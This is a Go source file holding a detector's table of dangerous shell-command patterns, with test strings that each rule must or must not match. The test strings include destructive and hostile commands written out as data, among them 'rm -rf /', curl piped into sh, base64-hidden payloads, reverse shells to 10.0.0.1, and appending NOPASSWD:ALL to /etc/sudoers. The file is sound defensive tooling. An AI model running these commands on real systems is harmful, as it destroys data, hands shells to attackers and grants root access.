package commands

// A pattern is one kind of dangerous command: what it looks like, as data, and commands
// that it must and must not match, which the tests run.
//
// A command matches when it is one of names, begins with one of sub, has an option of
// each group of all and none of none, and an operand of the kind. Where that depends on
// what is not in the file, it is not certain.
type pattern struct {
	id   string // the check's rule, as in def.yaml
	says string // what the command does

	names   []string
	sub     []string
	all     [][]string
	none    []string
	operand func(word, []word) tri
	bare    bool // no operand at all matches, too
	special func(*command) tri

	hits   []string // must match
	misses []string // must not
	unsure []string // must be undecidable
}

func flags(one ...string) []string { return one }

// patterns is the table of everything that is looked for.
func patterns() []pattern {
	return []pattern{
		{
			id: "remove-root", says: "removes a folder of the system or a home folder, with everything in it",
			names: []string{"rm"}, all: [][]string{flags("-r", "-R", "--recursive")}, operand: systemFolder,
			hits: []string{
				"rm -rf /", "rm -fr /", "rm -r -f /", "rm  -rf   /", "rm -rf -- /", "rm --recursive --force /", "rm -Rf /*", "rm -rf --no-preserve-root /",
				"rm -rf ~", "rm -rf ~/", `rm -rf "$HOME"`, "rm -rf ${HOME}/*", "sudo rm -rf /usr", "true&&sudo rm -rf /etc", "(sudo rm -rf /var/*)", "env X=1 sudo -u root rm -rf /",
				"timeout 5 rm -rf /", "timeout -s KILL 5 nice -n 3 nohup rm -rf /", "sh -c 'rm -rf /'", `bash -xc "cd / && rm -rf /*"`, "eval rm -rf /", `eval "rm -rf /"`,
				"find . -name x -exec rm -rf / ';'", "echo / | xargs rm -rf /", "command rm -rf /", `\rm -rf /`, "/bin/rm -rf /", `r""m -rf /`, `$'\x72m' -rf /`, "rm -rf /tmp/../", "rm -rf //",
				"if true; then rm -rf /; fi", "x() { rm -rf /; }", "y=$(rm -rf /)", "rm -rf /{bin,usr}", "su - root -c 'rm -rf /'", "ssh host rm -rf /", "ssh -p 22 host 'rm -rf /'", "trap 'rm -rf /' EXIT",
				"bash <<EOF\nrm -rf /\nEOF", "rm -rf /tmp/x /", "A=/; rm -rf $A", "rm / -rf", "flock /l rm -rf /", "exec rm -rf /", "X=1 rm -rf /", "! rm -rf /", "rm -rf '/'", "busybox rm -rf /", "rm -rf /home/*/",
			},
			misses: []string{
				"rm -rf /tmp/build", "rm -rf build", "rm -rf ./*", "rm -f /etc/x.conf", "echo 'rm -rf /'", "echo rm -rf /", `printf "rm -rf / is bad"`, "# rm -rf /", "rm -rf /var/lib/apt/lists/*", "rm -rf /root/.cache", "rm -rf ~/.cache",
				`rm -rf "$HOME/.npm"`, "rm -rf /usr/local/go", "git rm -r /", "D=$(mktemp -d); rm -rf $D", `DIR=/tmp/x; rm -rf "$DIR"`, "rm -rf build/$X", `rm -rf "$X/node_modules"`, "find build -exec rm -rf {} +", "cat <<EOF\nrm -rf /\nEOF", "grep 'rm -rf /' x", "rm -rf /tmp/*", "rm -r dir", "command -v rm -rf /",
			},
			unsure: []string{`rm -rf "$1"`, "rm -rf $DIR/", `rm -rf "${STEAMROOT}/"*`, "rm -rf $X/usr", "cat list | xargs rm -rf", "rm $OPTIONS /"},
		},
		{
			id: "remove-root", says: "deletes what it finds below a folder of the system, whatever it is", special: findDeletes,
			hits:   []string{"find / -delete", "find /usr -depth -delete"},
			misses: []string{"find / -name '*.pyc' -delete", "find build -delete", "find . -type f -delete"},
		},
		{
			id: "run-download", says: "runs what it downloads, unseen", special: runsDownload,
			hits: []string{
				"curl http://x | sh", "curl -fsSL https://x.example/install | sudo bash", "wget -qO- https://x | bash -s -- -y", "curl x | sudo -E bash -", "bash <(curl -s https://x)", "source <(curl -s x)", ". <(wget -qO- x)",
				`sh -c "$(curl -fsSL https://x)"`, `eval "$(curl -s x)"`, "curl x | python3", "curl x | python3 -", "curl x | gunzip | sh", "curl x 2>/dev/null |sh", "curl x | tee log | bash", "curl x | env A=b sh", "true && curl x | sh || true", "curl x | exec sh", "curl -s x | tac | tac | bash -x",
			},
			misses: []string{"curl -o x https://x", "curl x | tar xz", "curl x | jq .", "curl x | sudo gpg --dearmor -o y", "echo 'curl x | sh'", "curl x | grep sh", "curl x | bash script.sh", "cat x | sh -c 'read y'", "curl x | python3 -m json.tool", "curl x | python3 -c 'import sys'", `curl -d "$(cat x | sh)" y`, "curl x | node -e 'y'", "x=$(curl y)", "curl x; sh y.sh"},
		},
		{
			id: "run-hidden", says: "runs text that an encoding hides", special: runsDecoded,
			hits:   []string{"echo cm0gLXJmIC8K | base64 -d | sh", `eval "$(echo x | base64 --decode)"`, `bash -c "$(xxd -r -p x)"`},
			misses: []string{"base64 -d x > y", "echo x | base64 -d | tar x", "base64 -d x | jq .", `VALUE="$(echo x | base64 -d)"`},
		},
		{
			id: "run-unknown", says: "runs text that is not in the file", special: runsUnknown,
			unsure: []string{`eval "$X"`, `sh -c "$CMD"`, "cat x | sh", "eval $(./configure-env)", "sed s/a/b/ x | bash"},
			misses: []string{"eval $(ssh-agent -s)", `sh -c "echo $X"`, "echo hi | sh", "eval x=1", "bash script.sh", "cat x | bash y.sh", "sh -c 'ls'"},
		},
		{
			id: "force-push", says: "rewrites a branch that others build on",
			special: forcesPush,
			hits:    []string{"git push --force", "git push -f", "git push origin main --force", "git -C x push --force origin master", "git push -uf origin main", "git -c a=b push --force", "git push --force origin HEAD:main", "git push -f origin release/1.2", "git push --force origin", "git push --mirror --force", "git push --force origin HEAD"},
			misses: []string{
				"git push --force-with-lease", "git push --force-with-lease=main origin main", `echo "git push --force"`, "git push origin main", "git push -f origin gh-pages", "git push --force origin refs/tags/v1", "git push -f origin v1", "git push --force https://x HEAD:gh-pages", "git fetch --force", "git commit -m 'git push --force'",
			},
			unsure: []string{`git push -f origin "$BRANCH"`, `git push "$FLAGS" origin main`},
		},
		{
			id: "force-push", says: "rewrites a branch that others build on", names: []string{"git"}, sub: []string{"push"}, operand: forcedRef,
			hits: []string{"git push origin +main", "git push origin +HEAD:master"}, misses: []string{"git push origin +gh-pages", "git push origin main"},
		},
		{
			id: "force-push", says: "deletes a branch that others build on", names: []string{"git"}, sub: []string{"push"}, all: [][]string{flags("-d", "--delete")}, operand: sharedRef,
			hits: []string{"git push --delete origin main", "git push origin -d master"}, misses: []string{"git push origin --delete feature", "git push -d origin refs/tags/x"},
		},
		{
			id: "force-push", says: "deletes a branch that others build on", names: []string{"git"}, sub: []string{"push"}, operand: deletedRef,
			hits: []string{"git push origin :main"}, misses: []string{"git push origin :feature", "git push origin HEAD:main"},
		},
		{
			id: "skip-hooks", says: "goes around the checks of git hooks",
			names: []string{"git"}, sub: []string{"push", "commit", "merge"}, all: [][]string{flags("--no-verify")},
			hits: []string{"git commit --no-verify -m x", "git push --no-verify"}, misses: []string{"git commit -m --no-verify-x", "git commit -n", "git rebase"},
		},
		{
			id: "world-writable", says: "lets every user of the machine write",
			names: []string{"chmod"}, operand: worldWritable,
			hits:   []string{"chmod 777 x", "chmod -R 777 /srv", "chmod 0777 x", "chmod a+rwx x", "chmod o+w x", "chmod ugo+rw x", "chmod 666 x", "sudo chmod -R a+w /x", "chmod u=rwx,o=rwx x"},
			misses: []string{"chmod 755 x", "chmod +x x", "chmod 1777 /tmp", "chmod a+r x", "chmod u+w x", "chmod o-w x", "chmod 644 777", "chmod g+w x", "chmod --reference=777 x", "chmod a+x x"},
		},
		{
			id: "no-tls", says: "does not check whom it speaks to", names: []string{"curl"}, all: [][]string{flags("-k", "--insecure", "--proxy-insecure")}, operand: remoteURL,
			hits:   []string{"curl -k https://x.example", "curl --insecure https://x.example/y", "curl -fsSLk https://x.example", "curl -sk -H 'a: b' https://x.example", "curl https://x.example -k"},
			misses: []string{"curl -k https://localhost:8080", "curl -sk https://127.0.0.1", "curl https://x.example", "curl -o k https://x.example", "curl -H k https://x.example"},
			unsure: []string{"curl -k $URL", "curl $OPTIONS https://x.example"},
		},
		{
			id: "no-tls", says: "does not check whom it speaks to", names: []string{"wget"}, all: [][]string{flags("--no-check-certificate")},
			hits: []string{"wget --no-check-certificate https://x"}, misses: []string{"wget https://x"},
		},
		{
			id: "no-tls", says: "does not check whom it speaks to", special: switchesOff,
			hits: []string{"NODE_TLS_REJECT_UNAUTHORIZED=0 npm ci", "export NODE_TLS_REJECT_UNAUTHORIZED=0", "env GIT_SSL_NO_VERIFY=true git clone x", "export GIT_SSL_NO_VERIFY=1"}, misses: []string{"NODE_TLS_REJECT_UNAUTHORIZED=1 npm ci", "export GIT_SSL_NO_VERIFY=", "echo NODE_TLS_REJECT_UNAUTHORIZED=0"},
		},
		{
			id: "no-tls", says: "does not check whom it speaks to", special: gitInsecure,
			hits: []string{"git -c http.sslVerify=false clone x", "git config --global http.sslVerify false", "git config http.https://x.sslVerify false"}, misses: []string{"git config http.sslVerify true", "git -c user.name=false commit"},
		},
		{
			id: "no-tls", says: "does not check whom it speaks to", names: []string{"npm", "yarn", "pnpm"}, sub: []string{"config set strict-ssl false", "set strict-ssl false", "config set strict-ssl=false"},
			hits: []string{"npm config set strict-ssl false", "npm set strict-ssl false", "yarn config set strict-ssl false", "npm config set strict-ssl=false"}, misses: []string{"npm config set strict-ssl true"},
		},
		{
			id: "no-tls", says: "does not check whom it speaks to", names: []string{"pip", "pip3"}, all: [][]string{flags("--trusted-host")},
			hits: []string{"pip install --trusted-host pypi.org x", "pip3 install --trusted-host=x y"}, misses: []string{"pip install x"},
		},
		{
			id: "no-tls", says: "does not check whom it speaks to", names: []string{"kubectl", "helm", "oc"}, all: [][]string{flags("--insecure-skip-tls-verify", "--kube-insecure-skip-tls-verify")},
			hits: []string{"kubectl --insecure-skip-tls-verify get pods", "helm repo add --insecure-skip-tls-verify a b"}, misses: []string{"kubectl get pods", "kubectl --insecure-skip-tls-verify=false get pods"},
		},
		{
			id: "host-key", says: "believes any host that answers", special: hostKeys,
			hits: []string{"ssh -o StrictHostKeyChecking=no host ls", "scp -oStrictHostKeyChecking=no a b:c", `rsync -e "ssh -o StrictHostKeyChecking=no" a b`}, misses: []string{"ssh host", "ssh -o StrictHostKeyChecking=yes host", "ssh -o StrictHostKeyChecking=accept-new host"},
		},
		{
			id: "no-signature", says: "installs packages whose signature is not checked", names: []string{"apt-get", "apt"}, all: [][]string{flags("--allow-unauthenticated", "--force-yes", "--allow-insecure-repositories")},
			hits: []string{"apt-get install --allow-unauthenticated x", "apt-get -y --force-yes install x"}, misses: []string{"apt-get install -y x"},
		},
		{
			id: "no-signature", says: "installs packages whose signature is not checked", names: []string{"yum", "dnf", "rpm", "zypper"}, all: [][]string{flags("--nogpgcheck", "--nosignature", "--no-gpg-checks")},
			hits: []string{"yum install -y --nogpgcheck x", "rpm -i --nosignature x.rpm"}, misses: []string{"dnf install x"},
		},
		{
			id: "install-unpinned", says: "installs whatever version is newest, outside of every lock file",
			names: []string{"npm", "cnpm"}, sub: []string{"install", "i", "add", "in"}, all: [][]string{flags("-g", "--global", "--location=global")}, operand: unpinned,
			hits:   []string{"npm install -g x", "npm i -g x", "npm -g install x", "npm install --global x@latest", "npm install x -g", "npm install --location=global x", "npm i -g @scope/x", "npm install -g x@^1.2"},
			misses: []string{"npm install lodash-get", "npm install eslint-plugin-graphql", "npm install", "npm ci", "npm install -g x@1.2.3", "npm i -g @scope/x@1.2.3", "npm install -g .", "npm ls -g", "npm install --save-dev x"},
		},
		{
			id: "install-unpinned", says: "installs whatever version is newest, outside of every lock file", names: []string{"yarn"}, sub: []string{"global add"}, operand: unpinned,
			hits: []string{"yarn global add x"}, misses: []string{"yarn add x", "yarn global add x@1.0.0", "yarn global list"},
		},
		{
			id: "install-unpinned", says: "installs whatever version is newest, outside of every lock file", names: []string{"pnpm", "bun"}, sub: []string{"add", "install", "i"}, all: [][]string{flags("-g", "--global")}, operand: unpinned,
			hits: []string{"pnpm add -g x", "pnpm i --global x"}, misses: []string{"pnpm add x", "pnpm add -g x@1.2.3"},
		},
		{
			id: "destroy-cluster", says: "deletes what runs in a cluster", names: []string{"kubectl", "oc"}, sub: []string{"delete", "drain"}, none: flags("--dry-run", "--help", "-h"),
			hits:   []string{"kubectl delete pod x", "kubectl -n prod delete pod x", "kubectl drain node", "kubectl --context=prod delete ns x", "oc delete project x", "kubectl delete -f x.yaml"},
			misses: []string{"kubectl get pods", "kubectl apply -f delete.yaml", "kubectl delete pod x --dry-run=client", "kubectl describe pod delete", "kubectl exec -it x -- ls"},
			unsure: []string{`kubectl "$VERB" pod x`},
		},
		{
			id: "destroy-cluster", says: "takes a release down", names: []string{"helm"}, sub: []string{"uninstall", "delete", "del", "un"}, none: flags("--dry-run"),
			hits: []string{"helm uninstall x", "helm -n prod delete x"}, misses: []string{"helm upgrade --install x y", "helm list"},
		},
		{
			id: "destroy-infrastructure", says: "takes infrastructure down", names: []string{"terraform", "tofu", "terragrunt"}, sub: []string{"destroy", "run-all destroy"}, none: flags("-help"),
			hits: []string{"terraform destroy", "terraform -chdir=x destroy -auto-approve", "tofu destroy"}, misses: []string{"terraform plan -destroy", "terraform fmt", "terraform validate", "terraform state list"},
		},
		{
			id: "destroy-infrastructure", says: "changes infrastructure without anybody seeing the plan", names: []string{"terraform", "tofu", "terragrunt"}, sub: []string{"apply", "run-all apply"}, all: [][]string{flags("-auto-approve", "--auto-approve", "--terragrunt-non-interactive")},
			hits: []string{"terraform apply -auto-approve", "terraform apply --auto-approve -input=false", "terraform -chdir=x apply -auto-approve"}, misses: []string{"terraform apply plan.out", "terraform apply", "terraform apply -auto-approve=false", "terraform plan"},
		},
		{
			id: "destroy-infrastructure", says: "changes infrastructure without anybody seeing the plan", names: []string{"pulumi"}, sub: []string{"up", "destroy", "update"}, all: [][]string{flags("-y", "--yes", "-f", "--skip-preview")},
			hits: []string{"pulumi up --yes", "pulumi destroy -y"}, misses: []string{"pulumi preview", "pulumi up"},
		},
		{
			id: "destroy-infrastructure", says: "deletes what a cloud stores", names: []string{"aws"}, sub: []string{"s3 rb", "s3api delete-bucket", "ec2 terminate-instances", "rds delete-db-instance", "rds delete-db-cluster", "dynamodb delete-table", "cloudformation delete-stack", "eks delete-cluster", "iam delete-user"},
			hits: []string{"aws s3 rb s3://x --force", "aws --region x ec2 terminate-instances --instance-ids i-1", "aws cloudformation delete-stack --stack-name x"}, misses: []string{"aws s3 cp a s3://b", "aws ec2 describe-instances", "aws s3 ls"},
		},
		{
			id: "destroy-infrastructure", says: "deletes what a cloud stores", names: []string{"aws"}, sub: []string{"s3 rm"}, all: [][]string{flags("--recursive")}, none: flags("--dryrun"),
			hits: []string{"aws s3 rm s3://x --recursive"}, misses: []string{"aws s3 rm s3://x/y", "aws s3 rm s3://x --recursive --dryrun"},
		},
		{
			id: "destroy-infrastructure", says: "deletes a repository", names: []string{"gh"}, sub: []string{"repo delete"},
			hits: []string{"gh repo delete x --yes"}, misses: []string{"gh repo view x", "gh pr list"},
		},
		{
			id: "drop-data", says: "drops or empties data", special: dropsData,
			hits:   []string{`psql -c "DROP TABLE users"`, `mysql -e 'drop database x;'`, "redis-cli FLUSHALL", "dropdb x", `psql -d x -c "truncate users"`, `mongosh --eval "db.dropDatabase()"`, `psql -c "DELETE FROM users"`},
			misses: []string{`psql -c "SELECT 1 FROM dropped"`, `psql -c "DELETE FROM users WHERE id = 1"`, "redis-cli ping", `mysql -e "select 'drop table x'"`, `psql -c "DROP TABLE IF EXISTS pg_temp.x"`},
		},
		{
			id: "privileged-container", says: "gives a container the whole machine", special: privileged,
			hits:   []string{"docker run --privileged x", "docker run -v /:/host x", "podman run --privileged=true x", "docker run --rm --cap-add SYS_ADMIN x", "docker run -v /var/run/docker.sock:/var/run/docker.sock x", "docker run --mount type=bind,source=/,target=/host x"},
			misses: []string{"docker run x --privileged", "docker run -v $PWD:/src x", "docker build .", "docker run --privileged=false x", "docker run --cap-add NET_BIND_SERVICE x", "docker ps"},
		},
		{
			id: "overwrite-disk", says: "writes onto a disk", names: []string{"dd"}, operand: output,
			hits: []string{"dd if=/dev/zero of=/dev/sda", "sudo dd of=/dev/nvme0n1 if=x bs=1M"}, misses: []string{"dd if=/dev/zero of=file", "dd if=/dev/sda of=x", "dd of=/dev/null"}, unsure: []string{"dd if=x of=$DEVICE"},
		},
		{
			id: "overwrite-disk", says: "writes onto a disk", names: []string{"mkfs*", "wipefs", "shred", "fdisk", "parted", "sgdisk", "blkdiscard"}, operand: device,
			hits: []string{"mkfs.ext4 /dev/sdb1", "mkfs -t ext4 /dev/sda", "wipefs -a /dev/sda", "shred /dev/sda"}, misses: []string{"mkfs.ext4 image.img", "shred secret.txt", "mkfs.ext4 /dev/loop0"},
		},
		{
			id: "overwrite-disk", says: "writes onto a disk", special: writesDevice,
			hits: []string{"cat x > /dev/sda", "echo 1 >/dev/nvme0n1"}, misses: []string{"echo x > /dev/null", "cat x > /dev/stderr", "echo x >/dev/tty"},
		},
		{
			id: "reverse-shell", says: "hands a shell to whoever listens elsewhere", special: reverseShell,
			hits: []string{"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "nc -e /bin/sh 10.0.0.1 4444", "ncat --exec /bin/bash h 1"}, misses: []string{"nc -z localhost 80", "echo > /dev/tcp/localhost/80", "nc -l 80"},
		},
		{
			id: "gives-rights", says: "writes the file that says who may do what on the machine", special: writesSudoers,
			hits: []string{"echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", "echo x | sudo tee /etc/sudoers.d/x", "echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd"}, misses: []string{"cat /etc/sudoers", "cat /etc/passwd > x", "grep x /etc/passwd"},
		},
		{
			id: "gives-rights", says: "turns a protection of the machine off", names: []string{"setenforce"}, sub: []string{"0", "Permissive"},
			hits: []string{"setenforce 0", "sudo setenforce Permissive"}, misses: []string{"setenforce 1"},
		},
		{
			id: "gives-rights", says: "turns a protection of the machine off", names: []string{"ufw"}, sub: []string{"disable"},
			hits: []string{"ufw disable", "sudo ufw disable"}, misses: []string{"ufw enable", "ufw allow 22"},
		},
		{
			id: "gives-rights", says: "turns a protection of the machine off", names: []string{"iptables"}, all: [][]string{flags("-F", "--flush")},
			hits: []string{"iptables -F", "iptables --flush"}, misses: []string{"iptables -L", "iptables -A INPUT -j DROP"},
		},
		{
			id: "shows-secret", says: "prints a credential into a log", special: showsSecret,
			hits: []string{"echo $API_TOKEN", `echo "token: ${GITHUB_TOKEN}"`, `printf '%s\n' "$DB_PASSWORD"`, `echo "$AWS_SECRET_ACCESS_KEY"`},
			misses: []string{
				"echo $TOKEN_COUNT", "echo $API_TOKEN | docker login --password-stdin", `echo "x=$TOKEN" >> $GITHUB_ENV`, `x=$(echo "$TOKEN")`, "echo ${#TOKEN}", `echo "::add-mask::$TOKEN"`, "echo token", `echo "$SECRET_NAME"`, `printf "%s" "$TOKEN" > f`, `echo "${TOKEN:+set}"`, `curl -H "Authorization: $TOKEN" x`,
			},
		},
		{
			id: "secret-argument", says: "hands a password over as an argument, which every process of the machine can read", special: secretArgument,
			hits: []string{"docker login -u x -p $PASSWORD", `docker login ghcr.io --password "$TOKEN" -u x`}, misses: []string{"docker login --password-stdin", "docker login -u x ghcr.io", "docker run -p 80:80 x"},
		},
		{
			id: "machine-down", says: "stops the machine or everything on it", names: []string{"shutdown", "reboot", "halt", "poweroff"}, none: flags("--help", "-c"), bare: true, operand: anything,
			hits: []string{"shutdown -h now", "sudo reboot"}, misses: []string{"echo reboot", "shutdown -c"},
		},
		{
			id: "machine-down", says: "removes every timed job of a user", names: []string{"crontab"}, all: [][]string{flags("-r")},
			hits: []string{"crontab -r", "crontab -u x -r"}, misses: []string{"crontab -l"},
		},
	}
}
